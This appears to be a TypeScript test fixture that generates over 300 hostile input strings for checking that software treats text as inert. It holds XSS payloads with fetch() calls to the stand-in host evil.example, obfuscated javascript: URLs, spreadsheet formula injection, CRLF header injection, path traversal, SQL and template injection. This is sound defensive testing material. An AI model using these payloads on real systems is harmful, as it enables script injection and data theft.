/** What a hostile text would do if it ran: it says so in the title of the page, and asks another server. */
const DEED = `document.title='pwned'`;
const ELSEWHERE = 'https://evil.example/x';

const CALLS = [
  DEED,
  `fetch('${ELSEWHERE}')`,
  `top["docu"+"ment"].title='pwned'`,
  '(()=>{throw onerror=eval,"=document.title=\'pwned\'"})()',
];

/** Elements that run something by themselves. */
const ELEMENTS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script src="${ELSEWHERE}.js" onload="${call}"></script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<image src=x onerror="${call}">`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>x</text></a></svg>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<body onload="${call}">`,
  (call) => `<details open ontoggle="${call}">x</details>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}"></select>`,
  (call) => `<textarea autofocus onfocus="${call}"></textarea>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}"></audio>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<style>@import '${ELSEWHERE}.css';</style><b style="x:expression(${call})">x</b>`,
  (call) => `<link rel=stylesheet href="${ELSEWHERE}.css" onerror="${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<xss style="animation-name:x" onanimationstart="${call}"></xss>`,
];

/** Ways out of where a text is put. */
const BREAKS = ['', '">', `'>`, '</textarea>', '</title>', '</script>', '-->', ']]>', '`${', '{{'];

/** Addresses that are none to go to, in the ways they are hidden. */
const ADDRESSES: readonly string[] = [
  `javascript:${DEED}`,
  `JaVaScRiPt:${DEED}`,
  ` javascript:${DEED}`,
  `java\tscript:${DEED}`,
  `java\nscript:${DEED}`,
  `\u0001javascript:${DEED}`,
  `javascript&colon;${DEED}`,
  `&#106;avascript:${DEED}`,
  `vbscript:${DEED}`,
  `data:text/html,<script>${DEED}</script>`,
  `data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0ncHduZWQnPC9zY3JpcHQ+`,
  `blob:${ELSEWHERE}`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `https://bureau.example@evil.example/x`,
];

/** What Markdown makes of an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[here](${address})`,
  (address) => `[here](<${address}>)`,
  (address) => `![seen](${address})`,
  (address) => `<${address}>`,
  (address) => `[here][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">here</a>`,
];

/** What a spreadsheet would take for a formula, and what confuses readers of text. */
const CELLS: readonly string[] = [
  `=HYPERLINK("${ELSEWHERE}","here")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `"=1+1"`,
  '\u202egnp.exe',
  '\u2066\u2069\u200b\u200f',
  'BEGIN:VCARD\r\nEND:VCARD\r\n',
  'x\r\nSet-Cookie: bureau_session=x',
  '../../../../etc/passwd',
  '%2e%2e%2f%00',
  `'; DROP TABLE person; --`,
  '${7*7}{{7*7}}<%= 7*7 %>',
  '__proto__',
  'Z̸͍͝a̵l̶g̴o̷',
];

/** What no database keeps: NUL, and halves of letters, as a cut through an emoji leaves them. */
const UNKEPT: readonly string[] = ['\ud83d', '\ude00', 'a\ud83d', '\ude00b', 'a\ude00\ud83db', 'a\u0000b'];

/** More than 300 texts that harm whoever takes them for anything else than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...CALLS.flatMap((call) => ELEMENTS.map((element) => element(call))),
  ...BREAKS.flatMap((out) => ELEMENTS.slice(0, 7).map((element) => `${out}${element(DEED)}`)),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...ADDRESSES,
  ...CELLS,
  ...UNKEPT,
];
